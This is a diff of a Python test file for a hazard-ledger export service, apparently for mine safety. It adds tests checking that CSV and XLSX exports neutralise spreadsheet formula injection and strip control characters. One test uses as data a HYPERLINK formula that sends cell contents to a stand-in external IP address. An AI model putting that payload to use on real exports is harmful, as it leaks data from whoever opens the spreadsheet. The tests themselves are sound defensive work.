@@ -12,6 +12,7 @@ from safety_service.clock import utc_now
 from safety_service.console import figures
 from safety_service.hazards.states import Channel, Grade, HazardState
 from safety_service.people.models import Role
+from safety_service.web import sheets
 from tests.hazards.builders import make_hazard
 from tests.locations.builders import make_area, make_location
 
@@ -66,14 +67,14 @@ def test_the_ledger_exports_a_range_and_area_as_csv_and_xlsx(console: TestClient
     answer = console.get(f"/console/ledger/export?{query}&format=csv")
     assert answer.status_code == 200 and "attachment" in answer.headers["content-disposition"]
     rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
-    assert rows[0][:3] == ["隐患编号", "发现时间", "地点"] and "验收人" in rows[0] and len(rows) == 2
-    assert rows[1][0] == assigned.ref and "补打锚杆" in rows[1] and "已销号" in rows[1]
+    assert rows[0][:3] == ["序号", "编号", "排查日期"] and "验收人" in rows[0] and len(rows) == 2
+    assert rows[1][1] == assigned.ref and "补打锚杆" in rows[1] and "已销号" in rows[1]
     answer = console.get(f"/console/ledger/export?{query}&format=xlsx")
     sheet = load_workbook(io.BytesIO(answer.content)).active
     values = [[cell.value for cell in row] for row in sheet.iter_rows()]
-    assert values[0][0] == "隐患编号" and values[1][0] == assigned.ref and values[1][8] == 1200.5
+    assert values[1][0] == "序号" and values[2][1] == assigned.ref and values[2][11] == 1200.5
     english = console.get(f"/console/ledger/export?{query}&format=csv&lang=en").content.decode("utf-8-sig")
-    assert english.startswith("Reference,Found at")
+    assert english.startswith("No.,Reference,Found on")
 
 
 def test_bad_ledger_input_shows_the_reason_beside_the_field(console: TestClient, signed_in) -> None:
@@ -83,3 +84,38 @@ def test_bad_ledger_input_shows_the_reason_beside_the_field(console: TestClient,
     assert answer.status_code == 422
     assert all(f'id="err-{f}"' in answer.text for f in ("to", "area")) and "截止日期不能早于起始日期" in answer.text
     assert 'id="err-from"' in console.get("/console/ledger/export?from=&to=2026-04-01&format=csv").text
+
+
+def test_a_description_written_as_a_formula_reaches_the_ledger_as_text(console: TestClient, session: Session,
+                                                                         signed_in) -> None:
+    area = make_area(session)
+    attack = '=HYPERLINK("http://203.0.113.9/?d="&A1,"查看")'
+    make_hazard(session, state=HazardState.rectifying, description=attack, location=make_location(session, area=area))
+    signed_in(Role.officer)
+    today = utc_now().date()
+    query = f"from={today - timedelta(days=1)}&to={today + timedelta(days=1)}&area={area.code}"
+    rows = list(csv.reader(io.StringIO(console.get(f"/console/ledger/export?{query}&format=csv").content.decode(
+        "utf-8-sig"))))
+    assert rows[1][4] == "'" + attack and rows[1][11] == "1200.50"
+    sheet = load_workbook(io.BytesIO(console.get(f"/console/ledger/export?{query}&format=xlsx").content)).active
+    description, funds = sheet.cell(3, 5), sheet.cell(3, 12)
+    assert (description.value, description.data_type) == (attack, "s") and description.quotePrefix
+    assert (funds.value, funds.data_type) == (1200.5, "n")
+
+
+def test_every_formula_start_leaves_the_exports_as_text_and_numbers_stay_numbers() -> None:
+    texts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "普通说明"]
+    data = [[text, -3, 2.5] for text in texts]
+    rows = list(csv.reader(io.StringIO(sheets.to_csv(["a", "b", "c"], data).decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == ["'" + text for text in texts[:-1]] + ["普通说明"]
+    assert {(row[1], row[2]) for row in rows[1:]} == {("-3", "2.5")}
+    sheet = load_workbook(io.BytesIO(sheets.to_xlsx(["a", "b", "c"], data, "台账"))).active
+    cells = list(sheet.iter_rows(min_row=2))
+    read_back = [text.replace("\r", "\n") for text in texts]  # XML reads a carriage return as a line feed
+    assert [(row[0].value, row[0].data_type) for row in cells] == [(text, "s") for text in read_back]
+    assert {(row[1].value, row[1].data_type, row[2].value) for row in cells} == {(-3, "n", 2.5)}
+
+
+def test_a_control_character_in_stored_text_leaves_the_sheet_written_without_it() -> None:
+    sheet = load_workbook(io.BytesIO(sheets.to_xlsx(["a"], [["顶板\x01离层\x1f"]], "台账"))).active
+    assert sheet.cell(row=2, column=1).value == "顶板离层"
